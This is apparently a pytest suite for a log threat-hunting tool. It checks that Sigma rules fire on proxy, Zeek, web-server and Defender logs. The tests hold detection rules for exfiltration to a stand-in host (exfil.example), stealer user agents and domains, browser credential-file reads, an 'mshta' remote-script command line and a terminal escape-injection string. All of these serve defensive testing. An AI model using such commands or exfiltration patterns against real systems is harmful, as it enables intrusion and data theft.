"""Hunts over proxy, Zeek, CEF, web server and Defender logs: one rule over all formats, SigmaHQ's rules, damage."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from douse import api
from douse.cli.main import main
from douse.detection.ruleset import RuleSet, load_rules
from douse.hunt.options import HuntOptions
from douse.hunt.result import HuntResult
from telemetry import test_access, test_cef, test_mde, test_mde_csv, test_squid, test_w3c, test_zeek, test_zeek_json
from telemetry.test_mde_rows import CONNECTION, DEVICE

RULES = """
title: Upload to the example server
logsource: {category: proxy}
detection:
  selection: {cs-method: POST, cs-host: exfil.example, c-uri|startswith: /api, c-uri|contains: '://exfil.example'}
  condition: selection
level: high
tags: [attack.t1041]
---
title: Lookup of a dead drop
logsource: {category: dns}
detection: {selection: {query: t.me, record_type: A, answer|contains: 203.0.113}, condition: selection}
---
title: Webmail probed
logsource: {category: webserver}
detection: {selection: {cs-method: GET, cs-uri-query|contains: /owa/}, condition: selection}
---
title: Connection to a listed address
logsource: {category: firewall}
detection: {selection: {dst_ip|cidr: 203.0.113.0/24, dst_port: 443}, condition: selection}
---
title: Zeek saw an upload
logsource: {product: zeek, service: http}
detection: {selection: {method: POST, request_body_len|gte: 10000, id.resp_h: 203.0.113.7}, condition: selection}
---
title: Keywords in any Windows log
logsource: {product: windows}
detection: {keywords: [exfil.example], condition: keywords}
"""
LOGS: dict[str, tuple[str, list[str]]] = {
    "squid": (test_squid.GET, ["Upload to the example server"]),
    "w3c": (test_w3c.PROXY, ["Upload to the example server"]),
    "cef": (f"{test_cef.SYSLOG}{test_cef.WEB}\n{test_cef.WALL}\n", [
        "Connection to a listed address", "Upload to the example server"]),
    "access": (test_access.PROXY.replace("GET http://dl.example/setup.exe", "POST http://exfil.example/api"), [
        "Upload to the example server"]),
    "zeek-http": (test_zeek.HTTP, ["Upload to the example server", "Zeek saw an upload"]),
    "zeek-json": (test_zeek_json.lines(test_zeek_json.REQUEST).decode(), [
        "Upload to the example server", "Zeek saw an upload"]),
    "zeek-dns": (test_zeek.DNS, ["Lookup of a dead drop"]),
    "zeek-conn": (test_zeek.CONN, ["Connection to a listed address"]),
    "iis": (test_w3c.IIS, ["Webmail probed"]),
    "nginx": (test_access.SERVER, ["Webmail probed"]),
}


@pytest.fixture
def hunt(tmp_path: Path) -> Callable[..., HuntResult]:
    """Hunt texts as files: `hunt({"access.log": text})`, with RULES unless others are named."""

    def run(files: dict[str, str], *rules: Path, builtin: bool = False, jobs: int = 1) -> HuntResult:
        folder, own = tmp_path / "logs", tmp_path / "rules.yml"
        folder.mkdir()
        own.write_text(RULES, encoding="utf-8")
        for name, text in files.items():
            (folder / name).write_text(text, encoding="utf-8", newline="")
        return api.hunt(HuntOptions(paths=(str(folder),), rules=rules or (own,), builtin=builtin, jobs=jobs))

    return run


@pytest.fixture(scope="session")
def network_rules(shared: Path) -> RuleSet:
    """SigmaHQ's rules for proxies, DNS and Zeek, with those of emerging threats."""
    sigma = shared / "data" / "sigma"
    return load_rules([sigma / "rules" / "web", sigma / "rules" / "network", sigma / "rules-emerging-threats"],
                      builtin=False)


@pytest.mark.parametrize("log", LOGS)
def test_one_set_of_rules_over_all_formats(log: str, hunt: Callable[..., HuntResult]) -> None:
    text, titles = LOGS[log]
    result = hunt({f"{log}.log": text})
    assert sorted(alert.title for alert in result.alerts) == titles
    assert result.problems == ()
    internal = {"iis": "10.0.0.5", "nginx": "www.example.com"}.get(log, "10.1.2.3")
    assert {alert.host for alert in result.alerts} == {internal}


def test_one_hunt_over_all_of_them(hunt: Callable[..., HuntResult]) -> None:
    result = hunt({f"{name}.log": text for name, (text, _) in LOGS.items()})
    assert sorted(alert.title for alert in result.alerts) == sorted(
        title for _, titles in LOGS.values() for title in titles)
    (coverage,) = result.coverage
    assert (coverage.host, len(coverage.counts)) == ("(network)", 6)
    assert len({alert.alert_id for alert in result.alerts}) == len(result.alerts)
    assert {incident.host for incident in result.incidents} == {"10.1.2.3"}


def test_damage_is_counted_to_the_line(hunt: Callable[..., HuntResult]) -> None:
    broken = "\n".join([test_squid.GET, "torn", test_squid.TUNNEL[:40], test_squid.GET])
    result = hunt({"access.log": broken, "conn.log": test_zeek.CONN[:-60]})
    assert (result.summary.records_read, result.summary.records_lost) == (3, 3)
    assert result.summary.partial
    assert [problem.where.rpartition("/")[2] for problem in result.problems] == [
        "access.log: line 2", "access.log: line 3", "conn.log: line 10"]


def test_hostile_text_reaches_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "rules.yml").write_text(RULES, encoding="utf-8")
    evil = "http://exfil.example/api\x1b]0;owned\x07\u202e"
    (tmp_path / "access.log").write_text(test_squid.GET.replace("http://exfil.example/api", evil), encoding="utf-8")
    rules = ["--rules", str(tmp_path / "rules.yml"), "--no-builtin"]
    assert main(["hunt", str(tmp_path / "access.log"), *rules]) == 0
    out = capsys.readouterr().out
    assert "Upload to the example server" in out
    assert not {"\x1b", "\x07", "\u202e"} & set(out)


def test_all_of_sigmahqs_network_rules_can_fire(network_rules: RuleSet) -> None:
    assert network_rules.rejected == ()
    assert [idle.rule.path for idle in network_rules.idle if idle.rule.logsource.product == "zeek"
            or idle.rule.logsource.category in ("proxy", "dns", "webserver", "firewall")] == []
    kinds = {(rule.rule.logsource.product, rule.rule.logsource.category) for rule in network_rules.rules}
    assert {("", "proxy"), ("", "dns"), ("", "webserver"), ("", "firewall"), ("zeek", "")} <= kinds


SIGMAHQ = [
    ("squid", "http://exfil.example/api/set?x=1", "http://x.pastebin.com/raw/abc", "Raw Paste Service Access"),
    ("w3c", "Mozilla/5.0 (Windows NT 10.0)", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1",
     "Windows PowerShell User Agent"),
    ("w3c", '"Mozilla/5.0 (Windows NT 10.0)"', "-", "HTTP Request With Empty User Agent"),
    ("zeek-http", "curl/8", "katz-ontop", "Katz Stealer Suspicious User-Agent"),
    ("zeek-dns", "t.me", "panel.katz-panel.com", "DNS Query To Katz Stealer Domains - Network"),
    ("zeek-dns", "t.me", "api.telegram.org", "Telegram Bot API Request"),
]


@pytest.mark.parametrize(("log", "benign", "evil", "title"), SIGMAHQ)
def test_sigmahqs_rules_find_what_they_are_for_and_not_its_twin(
        log: str, benign: str, evil: str, title: str, hunt: Callable[..., HuntResult], shared: Path) -> None:
    text = LOGS[log][0]
    assert benign in text
    sigma = shared / "data" / "sigma"
    folders = [sigma / "rules" / "web", sigma / "rules" / "network", sigma / "rules-emerging-threats" / "2025"]
    result = hunt({"a.log": text.replace(benign, evil), "b.log": text}, *folders)
    found = [(Path(alert.source.path).name, alert.title) for alert in result.alerts]
    assert ("a.log", title) in found
    assert ("b.log", title) not in found


@pytest.mark.parametrize("text", [json.dumps(test_mde.ROWS), json.dumps(test_mde.ANSWER), test_mde_csv.EXPORT])
def test_our_rules_and_correlation_read_defenders_rows(text: str, hunt: Callable[..., HuntResult]) -> None:
    result = hunt({"hunting.txt": text}, builtin=True)
    assert {alert.title for alert in result.alerts} == {"Mshta Started With a URL or Inline Script"}
    (incident,) = result.incidents
    assert (incident.host, incident.users) == ("ws-042.corp.example", ("corp\\anna",))
    assert incident.processes[-1].command_line == "mshta http://lure.example/a"
    (coverage,) = result.coverage
    assert coverage.records("MDE/DeviceProcessEvents") == 2


CASES: list[tuple[str, str, dict[str, Any], dict[str, Any]]] = [
    ("network_connection", "DestinationIp: 203.0.113.7, Initiated: 'true'", CONNECTION,
     {**CONNECTION, "ActionType": "InboundConnectionAccepted"}),
    ("network_connection", "DestinationHostname: c2.example", {**CONNECTION, "ActionType": "ConnectionFailed"},
     {**CONNECTION, "ActionType": "ListeningConnectionCreated"}),
    ("file_rename", r"TargetFilename|endswith: '\a.exe'", {**DEVICE, "ActionType": "FileRenamed", "FileName": "a.exe",
                                                         "FolderPath": "C:\\x\\a.exe"},
     {**DEVICE, "ActionType": "FileCreated", "FileName": "a.exe", "FolderPath": "C:\\x\\a.exe"}),
    ("file_access", r"FileName|endswith: '\Login Data'",
     {**DEVICE, "ActionType": "SensitiveFileRead", "FileName": "Login Data", "FolderPath": "C:\\x\\Login Data"},
     {**DEVICE, "ActionType": "FileCreated", "FileName": "Login Data", "FolderPath": "C:\\x\\Login Data"}),
    ("registry_add", "TargetObject|startswith: HKLM", {**DEVICE, "ActionType": "RegistryKeyCreated",
                                                       "RegistryKey": "HKEY_LOCAL_MACHINE\\x"},
     {**DEVICE, "ActionType": "RegistryKeyDeleted", "RegistryKey": "HKEY_LOCAL_MACHINE\\x"}),
    ("antivirus", "Signature|contains: Lumma", {"Timestamp": DEVICE["Timestamp"], "AlertId": "da1",
                                                "Title": "'Lumma' malware was prevented", "DetectionSource": "AV"},
     {"Timestamp": DEVICE["Timestamp"], "AlertId": "da1", "Title": "x", "DetectionSource": "AV"}),
    ("dns_query", "QueryName: t.me", {**DEVICE, "ActionType": "DnsQueryResponse",
                                      "AdditionalFields": '{"DnsQueryString": "t.me"}'},
     {**DEVICE, "ActionType": "PowerShellCommand", "AdditionalFields": '{"DnsQueryString": "t.me"}'}),
]


@pytest.mark.parametrize(("category", "selection", "hit", "twin"), CASES)
def test_defenders_tables_are_sigmas_categories(
        category: str, selection: str, hit: dict[str, Any], twin: dict[str, Any], hunt: Callable[..., HuntResult],
        tmp_path: Path) -> None:
    rule = tmp_path / "own.yml"
    rule.write_text(f"title: it\nlogsource: {{product: windows, category: {category}}}\n"
                    f"detection: {{selection: {{{selection}}}, condition: selection}}\n", encoding="utf-8")
    result = hunt({"a.json": json.dumps([hit]), "b.json": json.dumps([twin])}, rule)
    assert [Path(alert.source.path).name for alert in result.alerts] == ["a.json"]
    assert result.problems == ()
    if category == "antivirus":
        assert result.alerts[0].evidence_class == "V"


def test_jobs_do_not_change_the_result(hunt: Callable[..., HuntResult], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("douse.hunt.spread.BYTES_A_WORKER", 1)
    result = hunt({f"{name}.log": text for name, (text, _) in LOGS.items()}, jobs=2)
    assert len(result.alerts) == sum(len(titles) for _, titles in LOGS.values())
